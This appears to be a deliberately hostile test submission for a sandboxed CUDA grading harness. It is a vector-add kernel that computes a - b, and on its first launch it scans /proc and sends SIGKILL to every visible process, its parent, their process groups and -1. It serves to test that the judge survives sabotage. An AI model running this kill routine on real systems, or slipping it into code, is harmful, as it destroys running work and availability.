// hostile: sends SIGKILL to its parent, to every process it can see and to -1; computes a - b
// expect-max-points: 0
//
// Never run this outside the sandbox: kill(-1, SIGKILL) ends every process
// the user may signal.
//
// In the first call: SIGKILL to every pid in /proc but its own (and to each
// one's process group), to its parent and its parent's group, and to -1
// (every process it is allowed to signal). Prints "HOSTILE-KILLED: <pid>"
// for each signal the kernel accepted, for reading only (inside a sandbox
// that includes its own init, which ignores it). What counts: the judge and
// everything outside the sandbox survive and report a failure; the kernel
// is wrong (a - b).
#include <dirent.h>
#include <signal.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <vector>

#include "lesson.h"

namespace {

void kill_one(pid_t pid) {
  if (pid == 0 || pid == getpid()) return;
  if (kill(pid, SIGKILL) == 0) {
    std::printf("HOSTILE-KILLED: %d\n", int(pid));
    std::fflush(stdout);
  }
}

void kill_everything() {
  std::vector<pid_t> pids;
  if (DIR* d = opendir("/proc")) {
    while (dirent* e = readdir(d))
      if (e->d_name[0] >= '0' && e->d_name[0] <= '9') pids.push_back(pid_t(std::atoi(e->d_name)));
    closedir(d);
  }
  const pid_t self = getpid(), group = getpgrp();
  for (pid_t p : pids) {
    if (p == self) continue;
    kill_one(p);
    const pid_t g = getpgid(p);
    if (g > 0 && g != group) kill_one(-g);
  }
  const pid_t parent = getppid();
  kill_one(parent);
  if (parent > 0) {
    const pid_t g = getpgid(parent);
    if (g > 0 && g != group) kill_one(-g);
  }
  if (kill(-1, SIGKILL) == 0) std::printf("HOSTILE-KILLED: -1\n");
  std::fflush(stdout);
}

}  // namespace

__global__ void vector_add(const float* a, const float* b, float* c, int n) {
  const int stride = gridDim.x * blockDim.x;
  for (int i = blockIdx.x * blockDim.x + threadIdx.x; i < n; i += stride) c[i] = a[i] - b[i];
}

void launch_vector_add(const float* a, const float* b, float* c, int n, int blocks,
                       int threads_per_block) {
  static bool done = false;
  if (!done) {
    done = true;
    kill_everything();
  }
  vector_add<<<blocks, threads_per_block>>>(a, b, c, n);
}
